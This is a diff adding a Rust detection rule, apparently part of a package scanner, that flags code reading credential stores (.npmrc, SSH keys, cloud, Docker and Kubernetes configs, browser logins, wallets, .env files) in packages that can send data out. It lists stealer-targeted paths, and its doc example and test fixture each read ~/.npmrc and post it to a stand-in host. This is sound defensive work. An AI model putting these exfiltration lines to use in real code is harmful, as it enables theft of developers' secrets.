@@ -1,0 +1,108 @@
+//! `code/credential-theft`.
+
+use super::{SENDS, chain, finding, locality, per_signal};
+use crate::CodeFinding;
+use crate::signal::{Kind, PackageFacts};
+use crate::verdict::Locality;
+use diligence_finding::Severity;
+
+diligence_finding::declare_rule! {
+    /// Code reads credential stores (npm, SSH, cloud, Docker, Kubernetes, browser profiles, wallets) in a package that can send data.
+    ///
+    /// ## What it detects
+    /// Credential paths (`.npmrc`, `.ssh/id_*`, `.aws/credentials`, `.docker/config.json`, `.kube/config`, browser
+    /// `Local Storage/leveldb` and `Login Data`, wallet files) or `.env` files read in a package with a network
+    /// sink; strongest when the read and the send share a file or function.
+    ///
+    /// ## Why it matters
+    /// Stealers (Shai-Hulud, the Discord token grabbers, the hijacked utility releases) read exactly these files and
+    /// post them to a webhook.
+    ///
+    /// ## Example
+    /// `https.request(hook).end(fs.readFileSync(os.homedir() + '/.npmrc'))`
+    ///
+    /// ## Known false positives
+    /// npm clients and registry-auth helpers read `.npmrc` to authenticate to the registry; SSH tools read keys.
+    /// Without a network capability in the package nothing is reported; a mention in docs is never a read.
+    pub static CREDENTIAL_THEFT = { id: "code/credential-theft", severity: Severity::High };
+}
+
+/// One finding per (file, line) of a credential path in a file that reads files or spawns.
+pub(crate) fn check(p: &PackageFacts) -> Vec<CodeFinding> {
+    let mut out = per_signal(p, Kind::CredentialPath, |f, s| {
+        if !f.has(Kind::FsRead) && !f.has(Kind::Spawn) {
+            return None;
+        }
+        let loc = locality(p, f, s, SENDS);
+        if loc == Locality::Alone {
+            return None;
+        }
+        let sev = if loc >= Locality::File {
+            Severity::Critical
+        } else {
+            Severity::High
+        };
+        let msg = format!(
+            "credential store `{}` read in a package that sends data out",
+            s.detail
+        );
+        Some(finding(
+            &CREDENTIAL_THEFT,
+            sev,
+            f,
+            s,
+            loc,
+            msg,
+            chain(p, f, s, &[Kind::FsRead, Kind::Network]),
+        ))
+    });
+    out.extend(per_signal(p, Kind::DotenvPath, |f, s| {
+        let loc = locality(p, f, s, SENDS);
+        if loc < Locality::File || !f.has(Kind::FsRead) {
+            return None;
+        }
+        let msg = format!("`{}` files read in a file that sends data out", s.detail);
+        Some(finding(
+            &CREDENTIAL_THEFT,
+            Severity::Medium,
+            f,
+            s,
+            loc,
+            msg,
+            chain(p, f, s, &[Kind::FsRead, Kind::Network]),
+        ))
+    }));
+    out
+}
+
+#[cfg(test)]
+mod tests {
+    use crate::rules::test_util::{PJ, hits, scan};
+
+    #[test]
+    fn positive() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "a.js",
+                "const fs = require('fs'), https = require('https'), os = require('os'), path = require('path');\nconst t = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');\nhttps.request('https://x.example.net').end(t);\n",
+            ),
+        ]);
+        assert_eq!(
+            hits(&s, "code/credential-theft"),
+            vec![("a.js".to_string(), 2)]
+        );
+    }
+
+    #[test]
+    fn negative_no_network() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "a.js",
+                "const fs = require('fs');\nconst t = fs.readFileSync(require('os').homedir() + '/.npmrc', 'utf8');\nmodule.exports = t;\n",
+            ),
+        ]);
+        assert!(hits(&s, "code/credential-theft").is_empty());
+    }
+}
